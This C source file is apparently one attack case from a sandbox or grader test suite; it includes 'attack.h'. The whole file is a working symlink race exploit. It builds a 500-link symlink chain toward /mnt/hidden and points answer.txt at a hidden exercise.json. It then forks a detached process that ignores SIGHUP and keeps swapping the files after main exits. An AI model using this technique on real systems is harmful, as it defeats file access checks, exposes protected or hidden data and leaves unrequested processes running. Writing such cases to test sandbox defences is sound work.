/*
 * Exchanges the file that is asked for with links to the machine's, in a
 * process that goes on when main has ended; and a farm of links.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>

int main(void)
{
	unlink("answer.txt");
	for (int i = 0; i < 500; i++) {
		char from[32], to[32];

		snprintf(from, sizeof(from), "link%d", i);
		snprintf(to, sizeof(to), i ? "link%d" : "/mnt/hidden", i - 1);
		symlink(to, from);
	}
	symlink("link499/exercise.json", "answer.txt");
	symlink("/mnt/hidden/exercise.json", "other.txt");
	if (fork() == 0) {
		setsid();
		signal(SIGHUP, SIG_IGN);
		for (;;) {
			rename("answer.txt", "third.txt");
			rename("other.txt", "answer.txt");
			rename("third.txt", "other.txt");
		}
	}
	return finish();
}
